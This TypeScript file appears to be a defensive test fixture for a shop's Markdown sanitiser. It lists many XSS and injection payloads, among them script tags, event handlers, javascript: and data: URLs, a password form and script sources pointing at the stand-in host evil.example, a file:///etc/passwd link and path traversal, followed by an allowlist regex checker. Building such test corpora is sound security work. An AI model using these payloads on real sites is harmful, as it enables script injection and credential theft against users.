// Markup that a Markdown field of staff must never output.

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)//',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=data:text/html,x><embed src=x><base href=//evil.example>',
  '<style>@import "//evil.example"</style><link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=password><button>OK</button></form>',
  '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<details open ontoggle=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y "z">]>',
  '<plaintext><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '</p></div></section></body></html><script>alert(1)</script>',
  '</textarea></script></title></style><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62; &#x3c;script&#x3E;',
  '\\<script\\>alert(1)\\</script\\>',
  '**<b onmouseover=alert(1)>x**</b>',
  '# <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n1. <b>x',
  '```html\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '`<script>alert(1)</script>`',
  '| <script>alert(1)</script> |\n|-|\n| <img src=x onerror=alert(1)> |',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\\\nscript:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  '&#x6A;avascript:alert(1)',
  '%6Aavascript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'http://plain.example',
  '//evil.example',
  '/admin',
  '\\\\evil.example',
  'https://user:secret@evil.example',
  'https://evil.example/" onmouseover="alert(1)',
  "https://evil.example/' onmouseover='alert(1)",
  'https://evil.example/"><script>alert(1)</script>',
  '../../admin',
  'products/../../secret.webp',
  'x.webp" onerror="alert(1)',
  'https://evil.example/track.png',
];

const linked = addresses.flatMap((address) => [
  `[words](${address})`,
  `[words](<${address}> "a title")`,
  `![words](${address})`,
  `[![words](${address})](${address})`,
  `<${address}>`,
  `[words][1]\n\n[1]: ${address}`,
]);

const nested = [
  '[a](https://a.example "\\" onmouseover=\\"alert(1)")',
  '![" onerror="alert(1)](x.webp)',
  '![<script>alert(1)</script>](x.webp)',
  '[[[a](https://a.example)](https://b.example)](https://c.example)',
  '**a _b **c_ ~~d **e~~ `f',
  '- a\n  1. b\n     - c\n       - d\n         - e\n           - f',
  '- [ ] a\n- [x] b',
  '> > > > a',
  '***\n---\n___\na\n===\nb\n---',
  'www.evil.example evil@evil.example http://evil.example',
];

const signs = [
  'a\u202ecod.exe\u202c b',
  '\u2066a\u2067b\u2069',
  'a&#x202e;b&#8238;c',
  'a\0b&#0;c',
  'a\u0007\u001b[31mb\u009b',
  'a\u2028b\u2029c\ufeffd',
  '\ud800a\udc00',
  'e\u0301'.repeat(90),
  '\ufdfa'.repeat(700),
];

/** Each is as long as a field may be, or longer. */
const huge = [
  '>',
  '- ',
  '1. ',
  '[',
  '![',
  '*',
  '_',
  '`',
  '<',
  '# ',
  '\\',
  '&',
  '|a',
  '~a',
  '    - ',
  '*a_',
  '*a **b ',
  '[a](',
  '[a](<b',
  '<a ',
  '<!--',
  'a@',
  'a.',
  'www.',
  'https://',
  'a\n= ',
  '\n',
  ' ',
  '\t',
  '&amp;',
  '- a\n',
  '***a***',
  '[a]: b\n',
  '🌿',
  'س ',
].map((part) => part.repeat(Math.ceil(8000 / part.length)));

export const hostileMarkdown = [...scripts, ...linked, ...nested, ...signs, ...huge];

const allowedTag = new RegExp(
  [
    '</?(?:strong|em|del|ul|bdi|ol)>',
    '</(?:p|h3|h4|li|a|code)>',
    '<(?:br|hr|code dir="ltr"|bdi lang="en"|bdi dir="ltr")>',
    '<(?:p|h3|h4|li)(?: dir="ltr" lang="en"| dir="rtl" lang="ar")?>',
    '<ol start="\\d+">',
    '<a href="(?:https://(?![^/"]*@)|mailto:|tel:)[^"\'<>]*">',
    '<img src="/media/products/(?![^"]*\\.\\.)[^"\'<>?#]*" alt="[^"<>]*" width="640" height="800" loading="lazy" decoding="async">',
  ].join('|'),
  'g',
);

/** Tags that the shop's own texts may contain (`shopTextHtml`). */
const allowedInTexts = new RegExp(
  [
    allowedTag.source,
    '</?(?:blockquote|table|thead|tbody|tr|td)>',
    '</(?:h2|th|div)>',
    '<th scope="col">',
    '<h2 id="section-\\d+"(?: dir="ltr" lang="en"| dir="rtl" lang="ar")?>',
    '<div class="prose-table" role="region" tabindex="0"(?: aria-labelledby="section-\\d+")?>',
    '<a href="/(?!admin|sandbox|/)[\\w/-]*(?:#[\\w-]+)?">',
  ].join('|'),
  'g',
);

/**
 * Returns the HTML that remains besides text and allowed tags, and tags that are not closed where they
 * must be.
 */
export function unsafePartsOf(html: string, allowed = allowedTag): string[] {
  const text = html.replace(allowed, '');
  const left = text.match(/[<>"'][\s\S]{0,40}|&(?!amp;|lt;|gt;|quot;|#39;)[\s\S]{0,12}/g) ?? [];
  const turned = html.match(/[^\P{Cc}\t\n]|[\u202a-\u202e\u2066-\u2069]/gu) ?? [];
  return [...left, ...turned, ...unclosedIn(html)];
}

export function unsafePartsOfText(html: string): string[] {
  return unsafePartsOf(html, allowedInTexts);
}

function unclosedIn(html: string): string[] {
  const open: string[] = [];
  for (const [, close, name = ''] of html.matchAll(/<(\/?)(\w+)/g)) {
    if (['br', 'hr', 'img'].includes(name)) continue;
    if (!close) open.push(name);
    else if (open.pop() !== name) return [`</${name}> of nothing`];
  }
  return open.map((name) => `<${name}> without an end`);
}
